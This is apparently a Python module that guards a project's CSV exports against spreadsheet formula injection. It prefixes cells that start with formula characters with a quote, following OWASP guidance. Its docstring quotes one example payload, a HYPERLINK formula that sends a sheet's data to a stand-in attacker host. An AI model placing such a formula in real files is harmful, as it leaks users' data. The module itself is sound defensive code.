"""CSV that opens safely in a spreadsheet: every CSV file the project writes goes through here.

A cell starting with = + - @, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula (`=HYPERLINK("https://evil.example/?d="&A1,"open")` in a user's note
would be a live link sending the sheet's data away). Following the OWASP rule for CSV
injection, such a text cell gets a leading single quote, so it shows as the text typed.
Numbers and empty cells are written as they are (a feedback value of -1 stays a number).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> object: ...


def csv_cell(value: object) -> object:
    """A value safe to write as a CSV cell: text that a spreadsheet would run as a formula
    gets a leading ' (OWASP); numbers, None and other text are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` with every cell passed through `csv_cell` (the header too)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` with every cell passed through `csv_cell`."""

    def __init__(self, out: _Writable, fieldnames: Sequence[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(out, fieldnames=self.fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writerow({name: csv_cell(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow({key: csv_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> SafeWriter:
    """Like `csv.writer(out)`, but formula-safe."""
    return SafeWriter(out, **options)


def csv_dict_writer(out: _Writable, fieldnames: Sequence[str], **options: Any) -> SafeDictWriter:
    """Like `csv.DictWriter(out, fieldnames)`, but formula-safe."""
    return SafeDictWriter(out, fieldnames, **options)
